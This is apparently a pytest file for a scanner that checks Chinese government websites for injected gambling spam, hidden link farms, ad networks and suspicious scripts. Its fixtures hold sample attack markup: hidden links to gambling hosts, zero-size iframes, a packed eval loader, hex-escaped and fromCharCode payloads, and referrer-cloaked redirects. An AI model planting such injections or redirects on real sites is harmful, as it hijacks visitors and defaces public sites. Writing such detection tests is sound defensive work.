"""Rules spam-injection, hidden-link, commercial-ad and suspicious-script on inline markup."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
import yaml

from govscan.model import Context, SiteInfo
from govscan.page import Page
from govscan.rules import registry

import rulecheck

HOME = "http://www.songlin.gov.cn/"
SITE = SiteInfo(id="songlin", name="松林县人民政府", url=HOME, host="www.songlin.gov.cn")
CTX = Context(site=SITE, as_of=dt.date(2026, 11, 20))
URL = HOME + "xwzx/gzdt/202611/t20261112_5501.html"


def run(rule_id: str, html: str, url: str = URL, **options):
    return rulecheck.check_page(rule_id, html, url, CTX, **options)


def doc(body: str, head: str = "", title: str = "工作动态-松林县人民政府") -> str:
    return (f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title>{head}</head>"
            f"<body><div class='header'><a href='/'>首页</a></div>{body}"
            "<div class='footer'>主办单位：松林县人民政府办公室</div></body></html>")


# ------------------------------------------------------------------ spam-injection

def test_spam_injected_title_and_meta():
    html = doc("<p>县政府召开常务会议。</p>",
               head="<meta name='keywords' content='澳门新葡京,百家乐,真人视讯'>"
                    "<meta name='description' content='bet365体育在线投注'>",
               title="澳门新葡京_百家乐_真人视讯_松林县人民政府")
    hits = run("spam-injection", html)
    assert len(hits) == 1
    ev = hits[0].evidence
    assert ev["title_stuffed"] is True
    terms = {t["term"]: t for t in ev["terms"]}
    assert {"澳门新葡京", "百家乐", "真人视讯"} <= set(terms)
    assert "标题" in terms["百家乐"]["where"] and "关键词/描述" in terms["百家乐"]["where"]
    assert "bet365体育" in terms
    assert "赌博" in ev["categories"]
    assert "标题被植入关键词" in hits[0].message
    assert hits[0].url is None  # subject: the page


def test_spam_in_hidden_block_and_link_targets():
    html = doc("<p>县政府召开常务会议。</p><div style='display:none'>"
               "<a href='http://www.yulecheng888.com/'>娱乐城</a> <a href='http://dafa888.cc/'>大发888</a></div>")
    (hit,) = run("spam-injection", html)
    terms = {t["term"]: t for t in hit.evidence["terms"]}
    assert "隐藏区块" in terms["娱乐城"]["where"] and "链接文字" in terms["娱乐城"]["where"]
    assert "yulecheng" in terms and terms["yulecheng"]["where"] == ["链接地址"]
    assert "http://www.yulecheng888.com/" in hit.evidence["links"]


def test_spam_traditional_characters():
    html = doc("<p>歡迎光臨澳門新葡京娛樂城，百家樂真人視訊，註冊就送彩金。</p>", title="網上賭場")
    (hit,) = run("spam-injection", html)
    terms = {t["term"] for t in hit.evidence["terms"]}
    assert {"澳门新葡京", "百家乐", "真人视讯", "网上赌场"} <= terms
    snippet = next(t["snippet"] for t in hit.evidence["terms"] if t["term"] == "百家乐")
    assert "百家樂" in snippet  # cut from the original text


@pytest.mark.parametrize("split", ["百 家 乐", "百\u200b家\u200b乐", "百\u200c家\ufeff乐", "百　家　乐", "ＢＥＴ３６５"])
def test_spam_split_by_spaces_and_zero_width(split):
    (hit,) = run("spam-injection", doc(f"<p>最新 {split} 开户</p>"))
    assert hit.evidence["terms"][0]["term"] in ("百家乐", "bet365")


def test_spam_weak_terms_need_company():
    one = doc("<p>本站提供彩金活动说明。</p>")
    assert run("spam-injection", one) == []
    three = doc("<p>首存优惠，天天返水，足球投注。</p>")
    (hit,) = run("spam-injection", three)
    assert all(t["strength"] == "weak" for t in hit.evidence["terms"])
    assert run("spam-injection", three, **{"weak-threshold": 10}) == []


LEGIT = [
    "县体育彩票管理中心发布2026年第三季度体育彩票销售情况，全县彩票投注站共销售体育彩票1.2亿元，筹集彩票公益金3000万元。",
    "中国福利彩票发行管理中心开展“福彩公益行”活动，彩票机构依法规范经营。",
    "11月12日，县公安局召开打击网络赌博专项行动推进会。今年以来共破获网络赌博案件23起，其中以“百家乐”“六合彩”为名"
    "开设网络赌场的案件9起，抓获犯罪嫌疑人41名。",
    "严禁党员干部参与赌博，严禁赴澳门赌场赌博。",
    "县扫黄打非办公室部署开展“净网2026”集中行动，清理淫秽色情信息1200余条，关停违规网站15家。",
    "警方提醒：网上博彩、体育投注等均属违法，切勿轻信“注册送彩金”等诱惑。",
    "县禁毒委员会开展禁毒宣传进校园活动，普及冰毒、K粉等毒品危害知识。",
    "老旧小区加装外挂电梯工作进展顺利，已完成外挂电梯安装32部。",
    "纳税人可通过电子税务局申请代开发票，税务机关代开增值税普通发票实行网上办理。",
    "依法查处销售游戏外挂的违法行为，下架违规应用10款。",
    "2010年上海申博成功，世博会在上海举办。",
    "民警身着私服深入社区开展反诈宣传。",
    "市场监管部门检查棋牌室12家，督促落实疫情防控措施。",
]


@pytest.mark.parametrize("text", LEGIT)
def test_legitimate_government_text_is_not_spam(text):
    assert run("spam-injection", doc(f"<div class='TRS_Editor'><p>{text}</p></div>", title=text[:30])) == []


def test_negation_does_not_cross_sentences_or_far_text():
    near = doc("<p>严厉打击网上赌场。</p>")
    assert run("spam-injection", near) == []
    other_sentence = doc("<p>县政府严厉打击违法犯罪。欢迎访问网上赌场，注册就送。</p>")
    assert len(run("spam-injection", other_sentence)) == 1
    assert run("spam-injection", other_sentence, **{"negation-words": []})


def test_negation_stays_in_its_paragraph():
    attacked = doc("<p>县农业农村局组织开展农村人居环境整治。</p><p>澳 门 新 葡 京 官 网</p>"
                   "<p>巩固整治成果。</p>")
    (hit,) = run("spam-injection", attacked)
    assert hit.evidence["terms"][0]["term"] == "澳门新葡京"
    assert "澳 门 新 葡 京" in hit.evidence["terms"][0]["snippet"]
    news = doc("<p>县公安局严厉打击<a href='/x.html'>网上赌场</a>等违法犯罪活动。</p>")  # inline link: same sentence
    assert run("spam-injection", news) == []


def test_spam_options_extend_and_drop_terms():
    html = doc("<p>本站出售高仿手表，联系微信。</p>")
    assert run("spam-injection", html) == []
    (hit,) = run("spam-injection", html, **{"extra-terms": ["高仿手表"]})
    assert hit.evidence["terms"][0]["category"] == "自定义"
    (hit,) = run("spam-injection", html, **{"extra-terms": [{"term": "高仿手表", "category": "fraud"}]})
    assert hit.evidence["terms"][0]["category"] == "fraud"
    assert run("spam-injection", doc("<p>百家乐</p>"), **{"ignore-terms": ["百家樂"]}) == []
    assert run("spam-injection", doc("<p>百家乐体验馆</p>"), **{"allow-terms": ["百家乐体验馆"]}) == []
    with pytest.raises(ValueError):
        run("spam-injection", html, **{"extra-terms": [42]})


def test_random_id_tag_cluster():
    cluster = ('<strike id="b7r51"></strike><ins id="jjdkr"></ins>\n<dfn id="x9k2p"><sub id="q1z2r"></sub></dfn>'
               '<b id="r5t7y"></b><small id="cuchu"></small>')
    hits = run("spam-injection", doc(cluster + "<p>县政府召开常务会议。</p>"))
    (hit,) = [h for h in hits if h.key == "tag-cluster"]
    assert hit.evidence["count"] == 6 and "b7r51" in hit.evidence["ids"]
    assert "strike" in hit.evidence["snippet"]
    assert run("spam-injection", doc(cluster), **{"tag-cluster-min": 0}) == []


@pytest.mark.parametrize("markup", [
    '<a id="top"></a><span id="s1"></span><p>正文</p><span id="s2"></span>',   # scattered, short ids
    '<i id="icon1"></i><i id="icon2"></i><i id="icon3"></i><i id="icon4"></i>',   # only four
    '<span id="ab12c">文字</span><span id="cd34e">文字</span><span id="ef56g">文字</span>'
    '<span id="gh78i">文字</span><span id="ij90k">文字</span>',                     # not empty
])
def test_no_tag_cluster_on_ordinary_markup(markup):
    assert run("spam-injection", doc(markup)) == []


# ------------------------------------------------------------------ hidden-link

FARM = "".join(f"<a href='http://www.{h}.com/'>{t}</a>" for h, t in
               [("yulecheng888", "娱乐城"), ("bocai365", "博彩"), ("amxpj", "新葡京")])


@pytest.mark.parametrize("wrapper, reason", [
    ("<div style='display:none'>{}</div>", "display:none"),
    ("<div style='DISPLAY: NONE !important'>{}</div>", "display:none"),
    ("<div style='visibility:hidden'>{}</div>", "visibility:hidden"),
    ("<div style='position:absolute;left:-9999px;top:-9999px'>{}</div>", "left"),
    ("<div style='position:absolute;top:-1000px'>{}</div>", "top"),
    ("<div style='height:0;overflow:hidden'>{}</div>", "零尺寸"),
    ("<div style='width:1px;height:1px;overflow:hidden'>{}</div>", "零尺寸"),
    ("<p style='font-size:0'>{}</p>", "font-size"),
    ("<div style='text-indent:-9999px'>{}</div>", "text-indent"),
    ("<div style='opacity:0'>{}</div>", "opacity"),
    ("<div hidden>{}</div>", "hidden"),
    ("<marquee height='1' width='2' scrollamount='3000'>{}</marquee>", "marquee"),
    ("<div class='yc'>{}</div>", "display:none"),
    ("<div id='lk'><ul><li>{}</li></ul></div>", "visibility:hidden"),
    ("<div class='box off'>{}</div>", "left"),
])
def test_hidden_outside_links(wrapper, reason):
    head = ("<style>.yc{display:none} #lk{visibility:hidden} /* injected */ "
            "@media screen { div.off{position:absolute;left:-3000px} }</style>")
    (hit,) = run("hidden-link", doc("<p>正文</p>" + wrapper.format(FARM), head=head))
    assert hit.evidence["count"] == 3
    assert hit.evidence["hosts"] == ["www.amxpj.com", "www.bocai365.com", "www.yulecheng888.com"]
    assert reason in hit.evidence["links"][0]["reason"]
    assert "www.yulecheng888.com" in hit.message


def test_hidden_zero_size_iframe_to_outside_host():
    (hit,) = run("hidden-link", doc("<iframe src='http://tj.bocai365.com/x.html' width='0' height='0'></iframe>"))
    assert hit.evidence["links"][0]["element"] == "iframe"


@pytest.mark.parametrize("body", [
    # collapsed menu of government and central-media links (shown on hover by script)
    "<div class='nav'><a href='#'>政府网站</a><div class='sub' style='display:none'>"
    "<a href='http://www.gov.cn/'>中国政府网</a><a href='http://www.zj.gov.cn/'>浙江省人民政府</a>"
    "<a href='http://www.people.com.cn/'>人民网</a><a href='http://www.xinhuanet.com/'>新华网</a>"
    "<a href='http://www.zju.edu.cn/'>浙江大学</a></div></div>",
    # the site's own pages in a hidden tab panel
    "<div class='tab' style='display:none'><a href='/zwgk/'>政务公开</a>"
    "<a href='http://zwfw.songlin.gov.cn/'>政务服务</a><a href='http://m.songlin.gov.cn/'>移动版</a></div>",
    # visible outside links
    "<div class='links'><a href='http://www.icbc.com.cn/'>工商银行</a></div>",
    # font-size:0 on a list to remove inline-block gaps; the items set it back
    "<ul style='font-size:0'><li style='font-size:14px;display:inline-block'>"
    "<a href='http://www.icbc.com.cn/'>工商银行</a></li></ul>",
    # the same trick through a class rule
    "<ul class='row'><li><a href='http://www.icbc.com.cn/'>工商银行</a></li></ul>",
    # a rule that hides only on hover, and a hiding rule overridden inline
    "<div class='pop'><a href='http://www.icbc.com.cn/'>工商银行</a></div>"
    "<div class='yc' style='display:block'><a href='http://www.abc.com.cn/'>农业银行</a></div>",
])
def test_no_hidden_link_finding(body):
    head = "<style>.row{font-size:0} .row li{font-size:14px} .pop:hover{display:none} .yc{display:none}</style>"
    assert run("hidden-link", doc(body, head=head)) == []


def test_hidden_link_allowed_hosts_option():
    html = doc("<div style='display:none'><a href='http://www.partner-bank.com/'>合作银行</a></div>")
    assert len(run("hidden-link", html)) == 1
    assert run("hidden-link", html, **{"allowed-hosts": ["partner-bank.com"]}) == []


# ------------------------------------------------------------------ commercial-ad

@pytest.mark.parametrize("markup, network", [
    ("<script src='https://pos.baidu.com/s?di=u3456789&dri=0'></script>", "pos.baidu.com"),
    ("<script type='text/javascript' src='//cpro.baidustatic.com/cpro/ui/c.js' async defer></script>",
     "cpro.baidustatic.com"),
    ("<script src='https://dup.baidustatic.com/js/ds.js'></script>", "dup.baidustatic.com"),
    ("<script async src='https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js'></script>",
     "googlesyndication.com"),
    ("<iframe src='https://ad.doubleclick.net/ddm/adi/N123'></iframe>", "doubleclick.net"),
    ("<a href='http://click.tanx.com/ct?e=1'><img src='/ad.jpg'></a>", "tanx.com"),
])
def test_ad_network_resources(markup, network):
    hits = run("commercial-ad", doc(markup))
    assert network in {h.evidence.get("network") for h in hits}
    assert all(h.url is None for h in hits)


def test_ad_slot_script_and_ad_blocks():
    body = ("<script>(adsbygoogle = window.adsbygoogle || []).push({});</script>"
            "<div class='ad-box'><a href='https://www.shop-deals.com/'><img src='/img/sale.jpg'></a></div>"
            "<div class='side'><span>广告</span><a href='https://www.car-loans.cn/'>低息车贷</a></div>")
    hits = run("commercial-ad", doc(body))
    keys = {h.key for h in hits}
    assert keys == {"script:adsbygoogle", "block:www.shop-deals.com", "block:www.car-loans.cn"}


@pytest.mark.parametrize("body", [
    # the site's own campaign banner in a block called "ad"; a 公益广告 label
    "<div class='ad'><a href='/ztzl/2026/'><img src='/img/banner.jpg' alt='专题'></a></div>"
    "<div class='gyg'><span>公益广告</span><a href='http://www.wenming.cn/'>讲文明树新风</a></div>",
    # Baidu analytics and the site's own scripts
    "<script>var _hmt=_hmt||[];(function(){var hm=document.createElement('script');"
    "hm.src='https://hm.baidu.com/hm.js?abc';document.getElementsByTagName('script')[0].parentNode.appendChild(hm);})();"
    "</script><script src='/js/jquery.min.js'></script>",
    # words containing "ad" are not ad markers
    "<div class='header-adv read-more'><a href='http://www.icbc.com.cn/'>工商银行</a></div>",
    # an ad block linking only government sites
    "<div id='ads'><a href='http://www.zjzwfw.gov.cn/'>浙江政务服务网</a></div>",
])
def test_no_commercial_ad(body):
    assert run("commercial-ad", doc(body)) == []


# ------------------------------------------------------------------ suspicious-script

PACKED = ("<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String))"
          "{while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};"
          "c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
          "('0.1(\\'<2 3=\"4://5.6\" 7=0 8=0></2>\\')',9,9,'document|write|iframe|src|http|x|cc|width|height'"
          ".split('|'),0,{}))</script>")


def test_packed_script():
    hits = run("suspicious-script", doc(PACKED))
    assert "packed" in {h.key for h in hits}


def test_escaped_string_and_fromcharcode():
    esc = "".join(f"\\x{b:02x}" for b in b'document.write("<script src=http://x.bocai.cc/j.js></script>")')
    hits = run("suspicious-script", doc(f"<script>var s=\"{esc}\";eval(s);</script>"))
    (hit,) = [h for h in hits if h.key == "escaped"]
    assert "document.write" in hit.evidence["decoded"]
    codes = ",".join(str(ord(c)) for c in "window.location='http://www.bocai365.com/'")
    hits = run("suspicious-script", doc(f"<script>eval(String.fromCharCode({codes}))</script>"))
    keys = {h.key for h in hits}
    assert "fromcharcode" in keys and "redirect" in keys  # the decoded code redirects outside


def test_script_written_hidden_iframe():
    html = doc("<script>document.write('<iframe src=\"http://www.yulecheng888.com/tj.html\" width=\"0\" "
               "height=\"0\" frameborder=\"0\"></iframe>');</script>")
    (hit,) = run("suspicious-script", html)
    assert hit.key == "hidden-iframe" and "yulecheng888" in hit.evidence["snippet"]
    css = doc("<script>document.writeln(\"<iframe src='http://a.cc/' style='display:none'></iframe>\")</script>")
    assert [h.key for h in run("suspicious-script", css)] == ["hidden-iframe"]


@pytest.mark.parametrize("code", [
    'var r=document.referrer;if(r.indexOf("baidu")>-1||r.indexOf("sogou")>-1||r.indexOf("so.com")>-1)'
    '{window.location.href="http://www.yulecheng888.com/";}',
    "(function(){var s=document.referrer;if(/baidu|sm\\.cn|sogou/i.test(s)){top.location='/dl/';}})();",
    'if(navigator.userAgent.toLowerCase().indexOf("spider")==-1){location.replace("http://www.bocai365.com")}',
])
def test_conditional_redirects(code):
    hits = run("suspicious-script", doc(f"<script type='text/javascript'>{code}</script>"))
    assert "conditional-redirect" in {h.key for h in hits}


def test_meta_refresh_and_script_redirect_outside():
    hits = run("suspicious-script", doc("", head="<meta http-equiv='refresh' content='0;url=http://www.bocai365.com/'>"))
    assert [h.key for h in hits] == ["meta-refresh"]
    assert hits[0].evidence["target"] == "http://www.bocai365.com/"
    hits = run("suspicious-script", doc("<script>window.location.href = 'https://www.bocai365.com/?from=gov';</script>"))
    assert [h.key for h in hits] == ["redirect"]


@pytest.mark.parametrize("body, head", [
    # mobile switch on the user agent, to the site's own mobile pages
    ("<script>if(/iphone|android|mobile|MQQBrowser|360 Aphone|baiduboxapp/i.test(navigator.userAgent))"
     "{window.location.href='http://m.songlin.gov.cn/';}</script>", ""),
    # Baidu analytics reads the referrer without redirecting
    ("<script>var _hmt=_hmt||[];var r=escape(document.referrer);"
     "(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?x';})();</script>", ""),
    # redirects to government hosts, meta refresh to the site itself
    ("<script>location.href='http://www.zjzwfw.gov.cn/';</script>",
     "<meta http-equiv='refresh' content='5;url=/index.html'>"),
    # escaped Chinese prose in a script (what minifiers write), JSON and Hanweb data blocks
    ("<script>alert('\\u8bf7\\u8f93\\u5165\\u5173\\u952e\\u8bcd\\u540e\\u518d\\u8fdb\\u884c\\u641c\\u7d22"
     "\\u8c22\\u8c22\\u60a8\\u7684\\u652f\\u6301\\u548c\\u914d\\u5408\\u795d\\u60a8\\u751f\\u6d3b\\u6109\\u5feb"
     "\\u5de5\\u4f5c\\u987a\\u5229\\u8eab\\u4f53\\u5065\\u5eb7\\u4e07\\u4e8b\\u5982\\u610f\\u5fc3\\u60f3\\u4e8b"
     "\\u6210\\u5e73\\u5b89\\u559c\\u4e50');</script>"
     "<script type='text/xml'><datastore><recordset><record><![CDATA[<li>x</li>]]></record></recordset>"
     "</datastore></script>", ""),
    # an iframe written visibly; a hidden iframe created empty for a same-site form post
    ("<script>document.write('<iframe src=\"/video/1.html\" width=\"640\" height=\"360\"></iframe>');</script>", ""),
    # an external script (not analysed: inline scripts only)
    ("<script src='http://www.bocai365.com/x.js'></script>", ""),
])
def test_no_suspicious_script(body, head):
    assert run("suspicious-script", doc(body, head=head)) == []


def test_suspicious_script_options():
    code = doc("<script>location.href='http://www.new-portal.com/';</script>")
    assert run("suspicious-script", code)
    assert run("suspicious-script", code, **{"allowed-redirect-hosts": ["new-portal.com"]}) == []


# ------------------------------------------------------------------ the fixture sites

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
PAGE_RULES = ("spam-injection", "hidden-link", "commercial-ad", "suspicious-script", "wrong-expression",
              "map-review-number", "emblem-usage")
SITES = {"songlin": "www.songlin.gov.cn", "songlin-wlj": "wlj.songlin.gov.cn", "tongze": "www.tongze.gov.cn"}


def fixture_findings(site_id: str) -> set[tuple[str, str, str]]:
    """(rule, subject, level) of every page rule on every page of a fixture site, read from disk."""
    host = SITES[site_id]
    info = SiteInfo(id=site_id, name=site_id, url=f"http://{host}/", host=host)
    ctx = Context(site=info, as_of=dt.date(2026, 11, 20))
    out = set()
    root = FIXTURES / "sites" / host
    for file in sorted(root.rglob("*.html")):
        rel = file.relative_to(root).as_posix()
        url = f"http://{host}/" + ("" if rel == "index.html" else rel)
        page = Page.from_html(url, file.read_text("utf-8"), is_homepage=rel == "index.html")
        for rule_id in PAGE_RULES:
            rule = registry()[rule_id]
            for hit in rule.check(page, dict(rule.options), ctx):
                out.add((rule_id, hit.url or url, hit.level or rule.level))
    return out


def expected_findings(site_id: str) -> set[tuple[str, str, str]]:
    entries = yaml.safe_load((FIXTURES / "expected" / "security.yaml").read_text("utf-8"))
    return {(e["rule"], e["url"], e["level"]) for e in entries if e["site"] == site_id and e["rule"] in PAGE_RULES}


def test_clean_look_alike_site_has_no_content_finding():
    assert fixture_findings("tongze") == set()


@pytest.mark.parametrize("site_id", ["songlin", "songlin-wlj"])
def test_fixture_sites_give_exactly_the_planted_findings(site_id):
    assert fixture_findings(site_id) == expected_findings(site_id)
